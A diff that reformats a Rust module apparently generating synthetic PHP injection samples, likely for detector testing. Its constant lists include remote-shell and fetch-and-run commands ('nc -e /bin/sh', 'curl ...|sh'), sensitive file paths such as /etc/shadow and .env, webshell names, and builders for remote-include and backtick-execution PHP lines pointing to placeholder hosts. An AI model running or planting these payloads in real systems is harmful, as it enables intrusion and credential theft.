@@ -12,12 +12,51 @@ use crate::{Carrier, Family, Rng, Variant};
 pub struct PhpInjection;
 
 const EXEC_SINKS: &[&str] = &["system", "passthru", "shell_exec", "exec", "popen", "proc_open", "pcntl_exec"];
-const PROBE_SINKS: &[&str] = &["file_exists", "readfile", "file_get_contents", "highlight_file", "show_source", "fopen", "var_dump", "print_r", "scandir", "unlink"];
-const COMMANDS: &[&str] = &["id", "whoami", "ls -la", "cat /etc/passwd", "uname -a", "pwd", "netstat -an", "ps aux", "cat /etc/hosts", "dir", "ipconfig", "curl http://203.0.113.7/s.sh|sh", "wget -qO- http://evil.example/x", "echo pwned", "nc -e /bin/sh 198.51.100.4 4444", "ifconfig"];
-const FILES: &[&str] = &["/etc/passwd", "/etc/shadow", "index.php", "../config.php", "wp-config.php", "/proc/self/environ", ".env", "C:\\Windows\\win.ini", "/var/www/html/.htaccess"];
+const PROBE_SINKS: &[&str] =
+    &["file_exists", "readfile", "file_get_contents", "highlight_file", "show_source", "fopen", "var_dump", "print_r", "scandir", "unlink"];
+const COMMANDS: &[&str] = &[
+    "id",
+    "whoami",
+    "ls -la",
+    "cat /etc/passwd",
+    "uname -a",
+    "pwd",
+    "netstat -an",
+    "ps aux",
+    "cat /etc/hosts",
+    "dir",
+    "ipconfig",
+    "curl http://203.0.113.7/s.sh|sh",
+    "wget -qO- http://evil.example/x",
+    "echo pwned",
+    "nc -e /bin/sh 198.51.100.4 4444",
+    "ifconfig",
+];
+const FILES: &[&str] = &[
+    "/etc/passwd",
+    "/etc/shadow",
+    "index.php",
+    "../config.php",
+    "wp-config.php",
+    "/proc/self/environ",
+    ".env",
+    "C:\\Windows\\win.ini",
+    "/var/www/html/.htaccess",
+];
 const SUPERGLOBALS: &[&str] = &["$_GET", "$_POST", "$_REQUEST", "$_COOKIE", "$_SERVER"];
-const WEBSHELLS: &[&str] = &["c99", "r57", "b374k", "wso", "alfa", "c99shell", "r57shell", "indoxploit", "webshell", "shell", "cmd", "phpspy", "priv8"];
-const DIRS: &[&str] = &["", "/uploads", "/wp-content/uploads/2024/03", "/images", "/tmp", "/wp-content/plugins/akismet", "/files", "/media/cache", "/assets/img"];
+const WEBSHELLS: &[&str] =
+    &["c99", "r57", "b374k", "wso", "alfa", "c99shell", "r57shell", "indoxploit", "webshell", "shell", "cmd", "phpspy", "priv8"];
+const DIRS: &[&str] = &[
+    "",
+    "/uploads",
+    "/wp-content/uploads/2024/03",
+    "/images",
+    "/tmp",
+    "/wp-content/plugins/akismet",
+    "/files",
+    "/media/cache",
+    "/assets/img",
+];
 
 impl Family for PhpInjection {
     fn name(&self) -> &'static str {
@@ -46,7 +85,11 @@ impl Family for PhpInjection {
 }
 
 fn quote(rng: &mut Rng, text: &str) -> String {
-    if rng.chance(0.5) { format!("'{text}'") } else { format!("\"{text}\"") }
+    if rng.chance(0.5) {
+        format!("'{text}'")
+    } else {
+        format!("\"{text}\"")
+    }
 }
 
 /// A string-building expression for `text`: a literal, a decoded string, a superglobal.
@@ -110,7 +153,11 @@ fn callee(rng: &mut Rng, sink: &str, names: &mut Vec<&'static str>) -> (String, 
             let cut = rng.range(1, sink.len() - 1);
             let (a, b) = sink.split_at(cut);
             let callee = format!("{}.{}", quote(rng, a), quote(rng, b));
-            if rng.chance(0.5) { (String::new(), format!("({callee})(")) } else { (String::new(), format!("{callee}(")) }
+            if rng.chance(0.5) {
+                (String::new(), format!("({callee})("))
+            } else {
+                (String::new(), format!("{callee}("))
+            }
         }
         5 | 6 => {
             names.push("variable-function");
@@ -165,7 +212,18 @@ fn call(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
                 0 => format!("print(md5({n}))"),
                 1 => format!("echo md5('{n}');"),
                 2 => format!("die(sha1({n}))"),
-                _ => rng.pick(&["phpinfo()", "posix_getpwuid(posix_geteuid())", "php_uname()", "getcwd()", "var_dump(md5(1))", "print_r(scandir('.'))", "posix_getpwuid(0)", "phpversion()"]).to_string(),
+                _ => rng
+                    .pick(&[
+                        "phpinfo()",
+                        "posix_getpwuid(posix_geteuid())",
+                        "php_uname()",
+                        "getcwd()",
+                        "var_dump(md5(1))",
+                        "print_r(scandir('.'))",
+                        "posix_getpwuid(0)",
+                        "phpversion()",
+                    ])
+                    .to_string(),
             };
             return wrap(rng, &probe, names);
         }
@@ -222,8 +280,17 @@ fn other_form(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
         0 => {
             names.push("include-url");
             let kw = rng.pick(&["include", "require", "include_once", "require_once"]);
-            let url = format!("{}://{}/{}.txt", rng.pick(&["http", "https", "ftp"]), rng.pick(&["evil.example", "198.51.100.9", "pastebin.example"]), rng.range(1, 9999));
-            if rng.chance(0.5) { format!("<?php {kw}({}); ?>", quote(rng, &url)) } else { format!("{kw} {};", quote(rng, &url)) }
+            let url = format!(
+                "{}://{}/{}.txt",
+                rng.pick(&["http", "https", "ftp"]),
+                rng.pick(&["evil.example", "198.51.100.9", "pastebin.example"]),
+                rng.range(1, 9999)
+            );
+            if rng.chance(0.5) {
+                format!("<?php {kw}({}); ?>", quote(rng, &url))
+            } else {
+                format!("{kw} {};", quote(rng, &url))
+            }
         }
         1 => {
             names.push("stream-wrapper");
@@ -237,7 +304,11 @@ fn other_form(rng: &mut Rng, names: &mut Vec<&'static str>) -> String {
         2 => {
             names.push("backtick");
             let cmd = rng.pick(COMMANDS);
-            if rng.chance(0.5) { format!("<?php echo `{cmd}`; ?>") } else { format!("<?=`{cmd}`?>") }
+            if rng.chance(0.5) {
+                format!("<?php echo `{cmd}`; ?>")
+            } else {
+                format!("<?=`{cmd}`?>")
+            }
         }
         _ => {
             names.push("webshell-path");
